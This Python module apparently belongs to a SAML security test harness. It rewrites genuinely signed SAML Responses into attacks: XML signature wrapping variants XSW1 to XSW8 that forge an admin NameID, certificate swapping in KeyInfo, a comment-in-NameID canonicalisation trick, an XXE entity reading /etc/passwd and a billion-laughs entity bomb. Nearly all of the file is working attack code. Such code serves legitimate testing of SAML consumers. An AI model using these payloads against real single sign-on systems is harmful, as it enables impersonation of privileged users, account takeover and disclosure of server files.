"""Turn a genuinely signed SAML Response into an attack, with lxml.

Each function takes the XML text of a response pysaml2 signed and returns the
attacked XML text; nothing here re-signs, so whatever signature survives is the
IdP's real one. Names follow SAML Raider's XSW numbering (threats.md C1).
"""
import copy
import uuid

from lxml import etree

from idp import NS

SAML = NS["saml"]
SAMLP = NS["samlp"]
DS = NS["ds"]


def parse(xml):
    return etree.fromstring(xml.encode() if isinstance(xml, str) else xml)


def dump(root):
    return etree.tostring(root, encoding="unicode")


def _new_id():
    return "_evil" + uuid.uuid4().hex


def _assertion(root):
    return root.find("saml:Assertion", NS)


def _drop_signature(el):
    sig = el.find("ds:Signature", NS)
    if sig is not None:
        el.remove(sig)
    return el


def _set_nameid(assertion, email):
    assertion.find("saml:Subject/saml:NameID", NS).text = email


def _evil_copy(assertion, email):
    """An unsigned clone of `assertion` with a fresh ID and the attacker's chosen NameID."""
    evil = _drop_signature(copy.deepcopy(assertion))
    evil.set("ID", _new_id())
    _set_nameid(evil, email)
    return evil


# ---- signature wrapping on a signed Assertion --------------------------------

def xsw3_evil_assertion_before_signed(xml, email="admin@corp.example"):
    """XSW3: an unsigned evil Assertion inserted before the signed one (consumers that take the first)."""
    root = parse(xml)
    signed = _assertion(root)
    signed.addprevious(_evil_copy(signed, email))
    return dump(root)


def xsw4_signed_assertion_inside_evil(xml, email="admin@corp.example"):
    """XSW4: the evil Assertion replaces the signed one, which is nested inside it."""
    root = parse(xml)
    signed = _assertion(root)
    evil = _evil_copy(signed, email)
    signed.addprevious(evil)
    root.remove(signed)
    evil.append(signed)
    return dump(root)


def xsw5_edited_assertion_with_detached_copy(xml, email="admin@corp.example"):
    """XSW5: the signed Assertion is edited and given a new ID (keeping its Signature);
    an untouched copy with the original ID is appended so the Reference still resolves."""
    root = parse(xml)
    signed = _assertion(root)
    untouched = _drop_signature(copy.deepcopy(signed))
    signed.set("ID", _new_id())
    _set_nameid(signed, email)
    root.append(untouched)
    return dump(root)


def xsw6_copy_hidden_in_signature(xml, email="admin@corp.example"):
    """XSW6/8: as XSW5, but the untouched copy hides inside the edited Assertion's ds:Signature (in a ds:Object)."""
    root = parse(xml)
    signed = _assertion(root)
    untouched = _drop_signature(copy.deepcopy(signed))
    signed.set("ID", _new_id())
    _set_nameid(signed, email)
    obj = etree.SubElement(signed.find("ds:Signature", NS), f"{{{DS}}}Object")
    obj.append(untouched)
    return dump(root)


def xsw7_signed_assertion_in_extensions(xml, email="admin@corp.example"):
    """XSW7: the signed Assertion moves into samlp:Extensions; an evil unsigned one takes its place."""
    root = parse(xml)
    signed = _assertion(root)
    evil = _evil_copy(signed, email)
    signed.addprevious(evil)
    root.remove(signed)
    ext = etree.Element(f"{{{SAMLP}}}Extensions")
    ext.append(signed)
    root.find("saml:Issuer", NS).addnext(ext)
    return dump(root)


# ---- signature wrapping on a signed Response ---------------------------------

def _evil_response(root, email):
    """The signed Response, re-IDed, with its assertion's NameID changed (signature kept in place)."""
    evil = copy.deepcopy(root)
    evil.set("ID", _new_id())
    _set_nameid(_assertion(evil), email)
    return evil


def xsw1_response_copy_inside_signature(xml, email="admin@corp.example"):
    """XSW1: the root becomes an evil Response; the original (signature removed) sits inside its ds:Signature."""
    root = parse(xml)
    evil = _evil_response(root, email)
    original = _drop_signature(copy.deepcopy(root))
    evil.find("ds:Signature", NS).append(original)
    return dump(evil)


def xsw2_response_copy_before_signature(xml, email="admin@corp.example"):
    """XSW2: as XSW1, but the original copy sits as a sibling just before the ds:Signature."""
    root = parse(xml)
    evil = _evil_response(root, email)
    original = _drop_signature(copy.deepcopy(root))
    evil.find("ds:Signature", NS).addprevious(original)
    return dump(evil)


# ---- other structural attacks -------------------------------------------------

def two_signed_assertions(xml_a, xml_b):
    """Both assertions are genuinely signed (assertion-signed responses), bundled into one Response."""
    a, b = parse(xml_a), parse(xml_b)
    _assertion(a).addnext(copy.deepcopy(_assertion(b)))
    return dump(a)


def replace_keyinfo_certificate(xml, cert_b64):
    """Swap every KeyInfo certificate in the document for `cert_b64` (KeyInfo is not signed)."""
    root = parse(xml)
    for c in root.iter(f"{{{DS}}}X509Certificate"):
        c.text = cert_b64
    return dump(root)


def tamper_nameid(xml, email="admin@corp.example"):
    """Edit the NameID after signing: the digest no longer matches."""
    root = parse(xml)
    _set_nameid(_assertion(root), email)
    return dump(root)


def comment_in_nameid(xml, before, after):
    """`before<!---->after` in NameID: exclusive C14N drops the comment, so the signature still verifies."""
    root = parse(xml)
    nameid = _assertion(root).find("saml:Subject/saml:NameID", NS)
    nameid.text = before
    comment = etree.Comment("")
    nameid.append(comment)
    comment.tail = after
    return dump(root)


def with_doctype(xml, doctype):
    """Prefix a DOCTYPE (XXE / entity bombs); `&e2e;` in the NameID makes sure entities are referenced."""
    body = xml.split("?>", 1)[1] if xml.lstrip().startswith("<?xml") else xml
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n{body.strip()}'


XXE_DOCTYPE = '<!DOCTYPE samlp:Response [<!ENTITY e2e SYSTEM "file:///etc/passwd">]>'
BILLION_LAUGHS_DOCTYPE = (
    '<!DOCTYPE samlp:Response [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + '<!ENTITY e2e "&lol9;">]>'
)


def reference_entity_in_nameid(xml):
    root = parse(xml)
    _assertion(root).find("saml:Subject/saml:NameID", NS).text = "ENTITYREF"
    return dump(root).replace("ENTITYREF", "&e2e;")
